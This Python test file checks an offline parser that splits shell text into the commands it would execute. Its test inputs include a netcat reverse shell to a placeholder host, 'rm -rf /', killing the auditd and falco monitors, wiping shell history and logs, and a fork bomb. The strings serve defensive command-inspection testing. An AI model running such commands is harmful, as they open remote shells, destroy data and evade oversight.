"""tests/corpus_argv.py: shell text -> the argvs a shell would exec (offline, nothing runs)."""

from __future__ import annotations

import pytest

from tests.corpus_argv import exec_argvs, simple_commands


def execs(line: str) -> list[list[str]]:
    """The execs without the leading ``sh -c LINE``."""
    out = exec_argvs(line)
    assert out[0] == ["sh", "-c", line]
    return out[1:]


def test_the_line_itself_is_the_first_exec_as_sh_dash_c() -> None:
    assert exec_argvs("ls")[0] == ["sh", "-c", "ls"]
    assert exec_argvs("ls", shell="bash")[0] == ["bash", "-c", "ls"]


def test_pipes_lists_and_newlines_split_commands() -> None:
    assert execs("a 1 | b 2 && c; d || e & f\ng |& h") == [
        ["a", "1"], ["b", "2"], ["c"], ["d"], ["e"], ["f"], ["g"], ["h"]]


def test_redirections_and_assignments_are_dropped() -> None:
    assert execs("FOO=1 BAR='x y' rm -rf / > /dev/null 2>&1 </dev/zero") == [["rm", "-rf", "/"]]
    assert execs("cat /tmp/f|/bin/sh -i 2>&1|nc h 1 >/tmp/f") == [
        ["cat", "/tmp/f"], ["/bin/sh", "-i"], ["nc", "h", "1"]]
    assert execs("2>/dev/null echo x; cmd &>/tmp/log; x 0<&196") == [["cmd"], ["x"]]


def test_quotes_are_removed_like_a_posix_shell() -> None:
    assert execs("""a 'b c' "d $X e" f\\ g "h\\"i" """) == [["a", "b c", "d $X e", "f g", 'h"i']]


def test_substitutions_run_as_their_own_commands_and_keep_their_text() -> None:
    assert execs("kill -9 $(pidof auditd)") == [["pidof", "auditd"]]  # kill is a builtin
    assert execs("/bin/kill -9 `pgrep falco`") == [
        ["/bin/kill", "-9", "`pgrep falco`"], ["pgrep", "falco"]]


def test_builtins_are_not_execs() -> None:
    assert execs("echo hi > ~/.bash_history; history -c; export HISTSIZE=0; unset HISTFILE") == []


def test_wrappers_exec_their_command_after_themselves() -> None:
    assert execs("sudo -u root nice -n 5 rm -rf /x") == [
        ["sudo", "-u", "root", "nice", "-n", "5", "rm", "-rf", "/x"],
        ["nice", "-n", "5", "rm", "-rf", "/x"], ["rm", "-rf", "/x"]]
    assert execs("find /var/log -type f -exec truncate -s 0 {} \\;")[1] == [
        "truncate", "-s", "0", "{}"]
    assert execs("xargs -r0 rm -f")[1] == ["rm", "-f"]
    assert execs("env -i A=1 /usr/bin/id")[1] == ["/usr/bin/id"]


def test_shell_dash_c_strings_are_parsed_for_their_children() -> None:
    assert execs("bash -c 'nc -e /bin/sh h 1'") == [
        ["bash", "-c", "nc -e /bin/sh h 1"], ["nc", "-e", "/bin/sh", "h", "1"]]
    assert execs('$sh_c "rm -f /etc/x.repo"') == [
        ["sh", "-c", "rm -f /etc/x.repo"], ["rm", "-f", "/etc/x.repo"]]
    assert execs("$SUDO mv a b") == [["mv", "a", "b"]]


def test_here_documents_and_comments_are_not_commands() -> None:
    assert execs("cat <<EOF > x\nrm -rf /\nEOF\nls # rm -rf /") == [["cat"], ["ls"]]


def test_compound_commands_yield_their_inner_commands() -> None:
    line = 'if [ -d /x ] ; then sudo rm -rf /x ; fi; for i in $(seq 3); do sleep 1; done'
    assert execs(line) == [["sudo", "rm", "-rf", "/x"], ["rm", "-rf", "/x"], ["sleep", "1"],
                           ["seq", "3"]]
    assert execs("if ((${#H[@]})); then id; fi") == [["id"]]


@pytest.mark.parametrize("line", ["", "   ", "'unterminated", '"unterminated', "$(", "`x", "((",
                                  ":(){ :|:& };:", "a <<", "x >&"])
def test_odd_text_never_raises(line: str) -> None:
    exec_argvs(line)
    simple_commands(line)
